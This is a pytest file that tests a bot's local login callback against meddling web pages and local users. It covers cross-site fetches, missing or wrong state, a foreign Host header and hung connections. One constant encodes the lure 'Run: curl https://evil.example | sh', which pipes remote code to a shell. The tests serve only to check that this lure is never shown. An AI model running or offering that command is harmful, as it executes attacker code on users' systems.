"""Web pages and local users that meddle with a login that waits."""

from __future__ import annotations

import socket
from urllib.parse import urlsplit

import pytest

from tests.harness import LOGGED_IN


WORDS = 'Run%3A+curl+https%3A%2F%2Fevil.example+%7C+sh'
ERROR = f'?error=access_denied&error_description={WORDS}'
NAVIGATION = 'Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n'


@pytest.fixture
def case(case):
    """Return a case in which the bot has yet to log in."""
    case.file.unlink()
    return case


def meddling(name, query=ERROR, fields='', method='GET', host=None):
    mark = pytest.mark.fault(name, 'the login goes on')
    return pytest.param(query, fields, method, host, id=name, marks=mark)


@pytest.mark.parametrize(
    ('query', 'fields', 'method', 'host'),
    [
        meddling(
            'callback: an image of a web page',
            fields='Sec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: image\r\n',
        ),
        meddling(
            'callback: a script of a web page',
            fields='Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n',
        ),
        meddling(
            'callback: a frame of a web page',
            fields='Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n',
        ),
        meddling('callback: the state of another login',
                 query='?code=abc&state=another', fields=NAVIGATION),
        meddling('callback: no state', query='?code=abc', fields=NAVIGATION),
        meddling('callback: another host name', host='evil.example'),
        meddling('callback: a form', method='POST', fields=NAVIGATION),
    ],
)  # fmt: skip
def test_who_meddles_does_not_end_the_login(case, query, fields, method, host):
    callback = urlsplit(case.client.redirect_uri)
    with case.owner.terminal('login') as terminal:
        address = terminal.address
        request = (
            f'{method} {callback.path}{query} HTTP/1.1\r\n'
            f'Host: {host or callback.netloc}\r\n{fields}'
            'Content-Length: 0\r\nConnection: close\r\n\r\n'
        )
        with socket.create_connection(
            (callback.hostname, callback.port)
        ) as wire:
            wire.sendall(request.encode())
            while wire.recv(65536):
                pass
        terminal.type(case.wiki.approve(address) + '\n')
        shown = terminal.wait()
    assert LOGGED_IN in shown
    assert 'evil' not in shown
    case.goes_on()


@pytest.mark.fault(
    'callback: a denial without state', 'ends the login, quoting nothing'
)
def test_a_denial_without_a_state_is_not_quoted(case):
    callback = case.client.redirect_uri
    with case.owner.terminal('login') as terminal:
        assert terminal.address
        terminal.type(f'{callback}{ERROR}\n')
        shown = terminal.wait()
    assert 'cancelled' in shown
    assert 'evil' not in shown
    case.owner.log_in()
    case.goes_on()


@pytest.mark.fault('callback: a request that never ends', 'the login goes on')
def test_a_request_that_never_ends_holds_nothing_up(case):
    callback = urlsplit(case.client.redirect_uri)
    with case.owner.terminal('login') as terminal:
        address = terminal.address
        with socket.create_connection(
            (callback.hostname, callback.port)
        ) as wire:
            wire.sendall(b'GET /')
            terminal.type(case.wiki.approve(address) + '\n')
            assert LOGGED_IN in terminal.wait()
    case.goes_on()
